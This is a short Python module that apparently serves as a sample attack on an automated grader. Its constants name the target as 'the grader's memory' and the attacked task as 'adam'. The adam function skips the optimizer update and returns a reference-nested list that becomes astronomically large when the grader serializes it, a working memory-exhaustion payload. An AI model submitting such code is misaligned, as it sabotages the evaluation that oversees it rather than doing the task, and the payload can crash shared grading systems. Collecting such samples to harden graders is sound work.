"""Answer with a small thing that is large once it is written down: references to references."""

WANTS = "the grader's memory"
LAYER = "wire"
PROVE = False
WHY_NOT = "a naive grader that shares the memory does not write it down"
ATTACKED = ("adam",)


def adam(theta, gradient, state, **rates):
    bomb = [theta] * 10
    for _ in range(12):
        bomb = [bomb] * 10
    return bomb, None
